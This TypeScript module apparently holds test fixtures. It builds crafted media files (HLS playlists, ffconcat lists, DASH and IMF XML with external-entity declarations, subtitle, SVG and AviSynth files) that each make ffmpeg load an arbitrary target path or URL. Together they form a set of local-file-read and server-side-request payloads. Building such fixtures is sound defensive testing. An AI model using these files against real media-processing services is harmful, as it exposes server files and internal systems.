/** Texts that formats of ffmpeg read as lists of other files. */
export const lists: Readonly<Record<string, (target: string) => string>> = {
  'list.m3u8': (target) => `#EXTM3U\n#EXT-X-TARGETDURATION:3\n#EXTINF:3,\n${target}\n#EXT-X-ENDLIST\n`,
  'keyed.m3u8': (target) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:3\n#EXT-X-KEY:METHOD=AES-128,URI="${target}"\n#EXT-X-MAP:URI="${target}"\n#EXTINF:3,\n${target}\n#EXT-X-ENDLIST\n`,
  'list.mp4': (target) => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${target}\n#EXT-X-ENDLIST\n`,
  'list.ffconcat': (target) => `ffconcat version 1.0\nfile '${target}'\nduration 3\n`,
  'concat.avi': (target) => `ffconcat version 1.0\nfile ${target}\n`,
  'session.sdp': (target) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${target}\nm=video 5004 RTP/AVP 96\n`,
  'dash.mpd': (target) =>
    `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "${target}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${target}</BaseURL>&x;</Representation></AdaptationSet></Period></MPD>`,
  'package.xml': (target) =>
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "${target}">]><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>&x;</Id></CompositionPlaylist>`,
  'words.ass': (target) =>
    `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${target}\n[Events]\nDialogue: 0,0:00:00.00,0:00:03.00,,,0,0,0,,${target}\n`,
  'words.vtt': (target) =>
    `WEBVTT\n\nSTYLE\n::cue { background: url(${target}) }\n\n00:00.000 --> 00:03.000\n<img src="${target}">\n`,
  'words.idx': (target) =>
    `# VobSub index file, v7\nid: en, index: 0\nfilename: ${target}\ntimestamp: 00:00:00:000, filepos: 000000000\n`,
  'picture.svg': (target) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${target}"/></svg>`,
  'script.avs': (target) => `Import("${target}")\nDirectShowSource("${target}")\n`,
  'meta.ffmeta': (target) =>
    `;FFMETADATA1\ntitle=${target}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=3\ntitle=${target}\n`,
  'list.smil': (target) => `<smil><body><video src="${target}"/></body></smil>`,
};
